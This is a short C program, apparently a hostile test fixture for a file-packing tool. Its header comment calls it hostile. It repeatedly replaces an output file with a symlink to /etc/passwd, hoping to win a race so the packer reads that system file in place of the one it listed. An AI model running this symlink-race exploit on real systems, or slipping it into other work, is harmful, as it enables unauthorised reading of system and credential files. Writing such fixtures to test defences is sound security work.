/* Hostile: swaps /out/data between a file it writes and a link to /etc/passwd as fast as it
 * can, until it is stopped, hoping the packer opens the link where it listed the file. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
    char path[4096];
    const char *o = getenv("SURPLUS_OUT");
    snprintf(path, sizeof path, "%s/data", o ? o : "/out");
    for (unsigned long i = 0;; i++) {
        unlink(path);
        if (i % 2 == 0) {
            FILE *f = fopen(path, "w");
            if (f) { fputs("mine\n", f); fclose(f); }
        } else {
            symlink("/etc/passwd", path);
        }
    }
}
